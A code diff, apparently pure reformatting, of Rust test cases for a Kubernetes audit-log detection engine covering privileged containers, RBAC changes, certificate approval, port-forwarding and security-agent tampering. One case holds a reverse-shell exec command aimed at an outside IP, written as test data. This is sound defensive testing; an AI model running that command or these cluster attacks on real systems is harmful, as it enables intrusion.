@@ -106,10 +106,10 @@ impl Ev {
             "roles" | "clusterroles" | "rolebindings" | "clusterrolebindings" => {
                 "rbac.authorization.k8s.io"
             }
-            "mutatingwebhookconfigurations" | "validatingwebhookconfigurations"
-            | "validatingadmissionpolicies" | "validatingadmissionpolicybindings" => {
-                "admissionregistration.k8s.io"
-            }
+            "mutatingwebhookconfigurations"
+            | "validatingwebhookconfigurations"
+            | "validatingadmissionpolicies"
+            | "validatingadmissionpolicybindings" => "admissionregistration.k8s.io",
             "certificatesigningrequests" => "certificates.k8s.io",
             "customresourcedefinitions" => "apiextensions.k8s.io",
             _ => "",
@@ -231,8 +231,10 @@ pub fn del(resource: &str, ns: &str, name: &str) -> Ev {
         &format!("/apis/apps/v1/namespaces/{ns}/{resource}/{name}"),
     )
     .object(resource, Some(ns), Some(name))
-    .body(json!({"kind": "DeleteOptions", "apiVersion": "meta.k8s.io/v1",
-        "propagationPolicy": "Background"}))
+    .body(
+        json!({"kind": "DeleteOptions", "apiVersion": "meta.k8s.io/v1",
+        "propagationPolicy": "Background"}),
+    )
 }
 
 /// A plain request on a named object.
@@ -266,10 +268,12 @@ pub fn binding(resource: &str, ns: Option<&str>, name: &str, role: &str, subject
     ev("create", &uri)
         .object(resource, ns, Some(name))
         .code(201)
-        .body(json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
+        .body(
+            json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
             "metadata": {"name": name},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
-            "subjects": subjects}))
+            "subjects": subjects}),
+        )
 }
 
 pub fn role(resource: &str, name: &str, rules: Value) -> Ev {
@@ -286,8 +290,10 @@ pub fn role(resource: &str, name: &str, rules: Value) -> Ev {
     ev("create", &uri)
         .object(resource, ns, Some(name))
         .code(201)
-        .body(json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
-            "metadata": {"name": name}, "rules": rules}))
+        .body(
+            json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
+            "metadata": {"name": name}, "rules": rules}),
+        )
 }
 
 fn container(name: &str, image: &str) -> Value {
@@ -302,12 +308,7 @@ fn case(name: &'static str, events: Vec<Ev>, fires: &[&'static str]) -> Case {
     config_case(name, json!({}), events, fires)
 }
 
-fn config_case(
-    name: &'static str,
-    config: Value,
-    events: Vec<Ev>,
-    fires: &[&'static str],
-) -> Case {
+fn config_case(name: &'static str, config: Value, events: Vec<Ev>, fires: &[&'static str]) -> Case {
     let events = events
         .into_iter()
         .enumerate()
@@ -391,9 +392,14 @@ fn exec_cases() -> Vec<Case> {
         case(
             "near miss: reverse shell exec that was forbidden",
             vec![
-                exec("create", "shop", "web-0", &["nc", "-e", "/bin/sh", "198.51.100.9", "4444"])
-                    .code(403)
-                    .stage("ResponseComplete"),
+                exec(
+                    "create",
+                    "shop",
+                    "web-0",
+                    &["nc", "-e", "/bin/sh", "198.51.100.9", "4444"],
+                )
+                .code(403)
+                .stage("ResponseComplete"),
             ],
             &[],
         ),
@@ -438,7 +444,12 @@ fn exec_cases() -> Vec<Case> {
         ),
         case(
             "near miss: kubectl cp into a pod runs tar xmf -",
-            vec![exec("create", "db", "postgres-0", &["tar", "xmf", "-", "-C", "/tmp"])],
+            vec![exec(
+                "create",
+                "db",
+                "postgres-0",
+                &["tar", "xmf", "-", "-C", "/tmp"],
+            )],
             &[],
         ),
     ]
@@ -466,12 +477,17 @@ fn workload_cases() -> Vec<Case> {
         case(
             "ephemeral container adds NET_ADMIN",
             vec![
-                ev("patch", "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers")
-                    .object("pods", Some("shop"), Some("web-0"))
-                    .sub("ephemeralcontainers")
-                    .body(json!({"spec": {"ephemeralContainers": [{"name": "debugger-x",
+                ev(
+                    "patch",
+                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
+                )
+                .object("pods", Some("shop"), Some("web-0"))
+                .sub("ephemeralcontainers")
+                .body(
+                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-x",
                         "image": "busybox:1.36", "targetContainerName": "app",
-                        "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}]}})),
+                        "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}]}}),
+                ),
             ],
             &["dangerous-capabilities"],
         ),
@@ -487,17 +503,35 @@ fn workload_cases() -> Vec<Case> {
         ),
         case(
             "a person creates a DaemonSet sharing the host PID namespace and /var/run",
-            vec![workload("create", "daemonsets", "ops", "node-agent", risky_ds.clone())],
+            vec![workload(
+                "create",
+                "daemonsets",
+                "ops",
+                "node-agent",
+                risky_ds.clone(),
+            )],
             &["risky-workload-template"],
         ),
         case(
             "a person patches a CronJob to run privileged",
-            vec![workload("patch", "cronjobs", "ops", "cleanup", privileged.clone())],
+            vec![workload(
+                "patch",
+                "cronjobs",
+                "ops",
+                "cleanup",
+                privileged.clone(),
+            )],
             &["risky-workload-template"],
         ),
         case(
             "near miss: a person creates an ordinary Deployment",
-            vec![workload("create", "deployments", "shop", "web", benign_spec())],
+            vec![workload(
+                "create",
+                "deployments",
+                "shop",
+                "web",
+                benign_spec(),
+            )],
             &[],
         ),
         case(
@@ -543,22 +577,32 @@ fn workload_cases() -> Vec<Case> {
         case(
             "privileged ephemeral container (kubectl debug --profile=sysadmin)",
             vec![
-                ev("patch", "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers")
-                    .object("pods", Some("shop"), Some("web-0"))
-                    .sub("ephemeralcontainers")
-                    .body(json!({"spec": {"ephemeralContainers": [{"name": "debugger-y",
-                        "image": "busybox:1.36", "securityContext": {"privileged": true}}]}})),
+                ev(
+                    "patch",
+                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
+                )
+                .object("pods", Some("shop"), Some("web-0"))
+                .sub("ephemeralcontainers")
+                .body(
+                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-y",
+                        "image": "busybox:1.36", "securityContext": {"privileged": true}}]}}),
+                ),
             ],
             &["privileged-ephemeral-container"],
         ),
         case(
             "near miss: unprivileged ephemeral container",
             vec![
-                ev("patch", "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers")
-                    .object("pods", Some("shop"), Some("web-0"))
-                    .sub("ephemeralcontainers")
-                    .body(json!({"spec": {"ephemeralContainers": [{"name": "debugger-z",
-                        "image": "busybox:1.36"}]}})),
+                ev(
+                    "patch",
+                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
+                )
+                .object("pods", Some("shop"), Some("web-0"))
+                .sub("ephemeralcontainers")
+                .body(
+                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-z",
+                        "image": "busybox:1.36"}]}}),
+                ),
             ],
             &[],
         ),
@@ -599,9 +643,14 @@ fn rbac_and_admission_cases() -> Vec<Case> {
         case(
             "mutating webhook created",
             vec![
-                simple("create", "mutatingwebhookconfigurations", None, Some("inject"))
-                    .code(201)
-                    .api_group("admissionregistration.k8s.io"),
+                simple(
+                    "create",
+                    "mutatingwebhookconfigurations",
+                    None,
+                    Some("inject"),
+                )
+                .code(201)
+                .api_group("admissionregistration.k8s.io"),
             ],
             &["admission-webhook-changed"],
         ),
@@ -634,9 +683,14 @@ fn rbac_and_admission_cases() -> Vec<Case> {
         case(
             "client certificate requested for the apiserver client signer",
             vec![
-                simple("create", "certificatesigningrequests", None, Some("alice-admin"))
-                    .code(201)
-                    .body(json!({"kind": "CertificateSigningRequest",
+                simple(
+                    "create",
+                    "certificatesigningrequests",
+                    None,
+                    Some("alice-admin"),
+                )
+                .code(201)
+                .body(json!({"kind": "CertificateSigningRequest",
                         "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                             "usages": ["client auth"], "request": "LS0t"}})),
             ],
@@ -645,10 +699,15 @@ fn rbac_and_admission_cases() -> Vec<Case> {
         case(
             "client certificate request approved by a person",
             vec![
-                simple("update", "certificatesigningrequests", None, Some("alice-admin"))
-                    .sub("approval")
-                    .user("bob")
-                    .body(json!({"kind": "CertificateSigningRequest",
+                simple(
+                    "update",
+                    "certificatesigningrequests",
+                    None,
+                    Some("alice-admin"),
+                )
+                .sub("approval")
+                .user("bob")
+                .body(json!({"kind": "CertificateSigningRequest",
                         "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                             "usages": ["client auth"]},
                         "status": {"conditions": [{"type": "Approved", "status": "True",
@@ -659,19 +718,29 @@ fn rbac_and_admission_cases() -> Vec<Case> {
         case(
             "near miss: a kubelet requests its client certificate",
             vec![
-                simple("create", "certificatesigningrequests", None, Some("csr-abcde"))
-                    .user("system:node:n1")
-                    .code(201)
-                    .body(json!({"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})),
+                simple(
+                    "create",
+                    "certificatesigningrequests",
+                    None,
+                    Some("csr-abcde"),
+                )
+                .user("system:node:n1")
+                .code(201)
+                .body(json!({"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})),
             ],
             &[],
         ),
         case(
             "near miss: a person requests a serving certificate",
             vec![
-                simple("create", "certificatesigningrequests", None, Some("web-tls"))
-                    .code(201)
-                    .body(json!({"spec": {"signerName": "example.com/serving",
+                simple(
+                    "create",
+                    "certificatesigningrequests",
+                    None,
+                    Some("web-tls"),
+                )
+                .code(201)
+                .body(json!({"spec": {"signerName": "example.com/serving",
                         "usages": ["server auth"]}})),
             ],
             &[],
@@ -774,10 +843,13 @@ fn rbac_and_admission_cases() -> Vec<Case> {
         case(
             "near miss: nodes/proxy request that was forbidden",
             vec![
-                ev("create", "/api/v1/nodes/n1/proxy/exec/kube-system/etcd-0/etcd?command=sh")
-                    .object("nodes", None, Some("n1"))
-                    .sub("proxy")
-                    .code(403),
+                ev(
+                    "create",
+                    "/api/v1/nodes/n1/proxy/exec/kube-system/etcd-0/etcd?command=sh",
+                )
+                .object("nodes", None, Some("n1"))
+                .sub("proxy")
+                .code(403),
             ],
             &[],
         ),
@@ -785,7 +857,8 @@ fn rbac_and_admission_cases() -> Vec<Case> {
 }
 
 fn stateful_cases() -> Vec<Case> {
-    let secret_get = |i: u64, t: u64| simple("get", "secrets", Some("shop"), Some(&format!("s{i}"))).at(t);
+    let secret_get =
+        |i: u64, t: u64| simple("get", "secrets", Some("shop"), Some(&format!("s{i}"))).at(t);
     let forbidden = |t: u64| {
         simple("list", "secrets", Some("kube-system"), None)
             .user("mallory")
@@ -794,8 +867,16 @@ fn stateful_cases() -> Vec<Case> {
     };
     let list_type = |r: &str, t: u64| simple("list", r, Some("shop"), None).at(t);
     let types = [
-        "pods", "services", "configmaps", "secrets", "serviceaccounts", "endpoints", "events",
-        "persistentvolumeclaims", "limitranges", "resourcequotas",
+        "pods",
+        "services",
+        "configmaps",
+        "secrets",
+        "serviceaccounts",
+        "endpoints",
+        "events",
+        "persistentvolumeclaims",
+        "limitranges",
+        "resourcequotas",
     ];
     let delete = |i: u64, t: u64| del("deployments", "shop", &format!("d{i}")).at(t);
     let rbac_write = |t: u64| {
@@ -847,12 +928,19 @@ fn stateful_cases() -> Vec<Case> {
         ),
         case(
             "near miss: nine 403s, then a tenth after the window",
-            repeat(9, |i| forbidden(i)).into_iter().chain([forbidden(120)]).collect(),
+            repeat(9, |i| forbidden(i))
+                .into_iter()
+                .chain([forbidden(120)])
+                .collect(),
             &[],
         ),
         case(
             "ten resource types listed within a minute",
-            types.iter().enumerate().map(|(i, r)| list_type(r, i as u64 * 5)).collect(),
+            types
+                .iter()
+                .enumerate()
+                .map(|(i, r)| list_type(r, i as u64 * 5))
+                .collect(),
             &["api-enumeration-burst"],
         ),
         case(
@@ -899,8 +987,7 @@ fn stateful_cases() -> Vec<Case> {
                 simple("get", "pods", Some("shop"), Some("web-0"))
                     .ua("kubectl/v1.31.0 (darwin/arm64) kubernetes/abc")
                     .at(day + 60),
-                simple("get", "pods", Some("shop"), None)
-                    .user("system:serviceaccount:shop:ci"),
+                simple("get", "pods", Some("shop"), None).user("system:serviceaccount:shop:ci"),
                 simple("get", "pods", Some("shop"), None)
                     .user("system:serviceaccount:shop:ci")
                     .ua("python-requests/2.31.0")
@@ -974,10 +1061,13 @@ fn single_request_cases() -> Vec<Case> {
         case(
             "peregrine's Deployment scaled to zero",
             vec![
-                ev("patch", "/apis/apps/v1/namespaces/peregrine/deployments/peregrine/scale")
-                    .object("deployments", Some("peregrine"), Some("peregrine"))
-                    .sub("scale")
-                    .body(json!({"spec": {"replicas": 0}})),
+                ev(
+                    "patch",
+                    "/apis/apps/v1/namespaces/peregrine/deployments/peregrine/scale",
+                )
+                .object("deployments", Some("peregrine"), Some("peregrine"))
+                .sub("scale")
+                .body(json!({"spec": {"replicas": 0}})),
             ],
             &["security-agent-tampering"],
         ),
@@ -985,10 +1075,13 @@ fn single_request_cases() -> Vec<Case> {
             "near miss: another DaemonSet patched, and the agent's status updated",
             vec![
                 workload("patch", "daemonsets", "logging", "fluent-bit", json!({})),
-                ev("update", "/apis/apps/v1/namespaces/falco/daemonsets/falco/status")
-                    .object("daemonsets", Some("falco"), Some("falco"))
-                    .sub("status")
-                    .user("system:serviceaccount:kube-system:daemon-set-controller"),
+                ev(
+                    "update",
+                    "/apis/apps/v1/namespaces/falco/daemonsets/falco/status",
+                )
+                .object("daemonsets", Some("falco"), Some("falco"))
+                .sub("status")
+                .user("system:serviceaccount:kube-system:daemon-set-controller"),
             ],
             &[],
         ),
@@ -1024,60 +1117,94 @@ fn single_request_cases() -> Vec<Case> {
         case(
             "port forward to a database pod, seen at both stages",
             vec![
-                ev("get", "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432")
-                    .object("pods", Some("db"), Some("postgres-0"))
-                    .sub("portforward")
-                    .code(101)
-                    .stage("ResponseStarted")
-                    .audit_id("pf-1"),
-                ev("get", "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432")
-                    .object("pods", Some("db"), Some("postgres-0"))
-                    .sub("portforward")
-                    .code(101)
-                    .audit_id("pf-1")
-                    .at(600),
+                ev(
+                    "get",
+                    "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432",
+                )
+                .object("pods", Some("db"), Some("postgres-0"))
+                .sub("portforward")
+                .code(101)
+                .stage("ResponseStarted")
+                .audit_id("pf-1"),
+                ev(
+                    "get",
+                    "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432",
+                )
+                .object("pods", Some("db"), Some("postgres-0"))
+                .sub("portforward")
+                .code(101)
+                .audit_id("pf-1")
+                .at(600),
             ],
             &["pod-port-forward"],
         ),
         case(
             "near miss: port forward forbidden",
             vec![
-                ev("create", "/api/v1/namespaces/db/pods/postgres-0/portforward")
-                    .object("pods", Some("db"), Some("postgres-0"))
-                    .sub("portforward")
-                    .code(403),
+                ev(
+                    "create",
+                    "/api/v1/namespaces/db/pods/postgres-0/portforward",
+                )
+                .object("pods", Some("db"), Some("postgres-0"))
+                .sub("portforward")
+                .code(403),
             ],
             &[],
         ),
         case(
             "coredns ConfigMap patched by a person",
-            vec![simple("patch", "configmaps", Some("kube-system"), Some("coredns"))],
+            vec![simple(
+                "patch",
+                "configmaps",
+                Some("kube-system"),
+                Some("coredns"),
+            )],
             &["kube-system-config-modified"],
         ),
         case(
             "near miss: ConfigMap patched elsewhere, and a kube-system secret read",
             vec![
                 simple("patch", "configmaps", Some("shop"), Some("web-config")),
-                simple("get", "secrets", Some("kube-system"), Some("bootstrap-token-abc")),
+                simple(
+                    "get",
+                    "secrets",
+                    Some("kube-system"),
+                    Some("bootstrap-token-abc"),
+                ),
             ],
             &[],
         ),
         case(
             "custom resource definition deleted",
             vec![
-                simple("delete", "customresourcedefinitions", None, Some("policies.kyverno.io"))
-                    .api_group("apiextensions.k8s.io"),
+                simple(
+                    "delete",
+                    "customresourcedefinitions",
+                    None,
+                    Some("policies.kyverno.io"),
+                )
+                .api_group("apiextensions.k8s.io"),
             ],
             &["crd-deleted"],
         ),
         case(
             "near miss: custom resource definition created, and a delete that was forbidden",
             vec![
-                simple("create", "customresourcedefinitions", None, Some("widgets.example.com"))
-                    .code(201),
-                simple("delete", "customresourcedefinitions", None, Some("policies.kyverno.io"))
-                    .api_group("apiextensions.k8s.io")
-                    .code(403),
+                simple(
+                    "create",
+                    "customresourcedefinitions",
+                    None,
+                    Some("widgets.example.com"),
+                )
+                .code(201),
+                simple(
+                    "delete",
+                    "customresourcedefinitions",
+                    None,
+                    Some("policies.kyverno.io"),
+                )
+                .api_group("apiextensions.k8s.io")
+                .code(403),
             ],
             &[],
         ),
@@ -1135,8 +1262,13 @@ fn single_request_cases() -> Vec<Case> {
         case(
             "service account created in kube-system by a person",
             vec![
-                simple("create", "serviceaccounts", Some("kube-system"), Some("backup"))
-                    .code(201),
+                simple(
+                    "create",
+                    "serviceaccounts",
+                    Some("kube-system"),
+                    Some("backup"),
+                )
+                .code(201),
             ],
             &["serviceaccount-created-in-kube-system"],
         ),
